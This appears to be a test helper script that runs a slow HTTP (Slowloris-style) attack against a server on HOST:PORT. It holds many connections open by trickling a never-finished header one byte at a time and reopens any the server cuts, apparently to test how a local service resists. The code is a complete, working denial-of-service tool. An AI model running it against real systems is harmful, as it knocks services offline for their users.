#!/usr/bin/env python3
"""Slow HTTP clients against HOST:PORT, as a local attacker would run them:
COUNT connections each send a request header one byte every INTERVAL
seconds, never finishing it, for DURATION seconds; a connection the server
cuts is opened again at once, so the pressure stays. Prints "ready" once
all are connected, then at the end one line:
slow: connections=N cut=M sent=B
Usage: slow_http.py HOST:PORT COUNT INTERVAL DURATION"""
import selectors
import socket
import sys
import time

HEADER = (b"GET /api/status HTTP/1.1\r\nHost: 127.0.0.1\r\n"
          b"X-Slow: " + b"a" * 4000 + b"\r\n\r\n")


def connect(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setblocking(False)
    s.connect_ex((host, port))
    return s


def main():
    hostport, count, interval, duration = sys.argv[1:5]
    host, port = hostport.rsplit(":", 1)
    port, count = int(port), int(count)
    interval, duration = float(interval), float(duration)
    sel = selectors.DefaultSelector()
    conns = {}                 # socket -> bytes of HEADER sent
    opened = cut = sent = 0
    for _ in range(count):
        s = connect(host, port)
        sel.register(s, selectors.EVENT_READ)
        conns[s] = 0
        opened += 1
    print("ready", flush=True)
    end = time.monotonic() + duration
    next_tick = time.monotonic()
    while time.monotonic() < end:
        timeout = max(0.0, min(next_tick, end) - time.monotonic())
        # the server's end of a connection (EOF, reset): open another
        for key, _ in sel.select(timeout):
            s = key.fileobj
            try:
                data = s.recv(4096)
            except (BlockingIOError, InterruptedError):
                continue
            except OSError:
                data = b""
            if data:
                continue       # an answer: the header was never finished
            sel.unregister(s)
            s.close()
            del conns[s]
            cut += 1
            n = connect(host, port)
            sel.register(n, selectors.EVENT_READ)
            conns[n] = 0
            opened += 1
        if time.monotonic() >= next_tick:
            next_tick += interval
            for s in list(conns):
                pos = conns[s] % (len(HEADER) - 4)  # never the end
                try:
                    if s.send(HEADER[pos:pos + 1]) == 1:
                        conns[s] += 1
                        sent += 1
                except (BlockingIOError, InterruptedError):
                    pass
                except OSError:
                    pass       # seen as EOF by select
    print(f"slow: connections={opened} cut={cut} sent={sent}", flush=True)


if __name__ == "__main__":
    main()
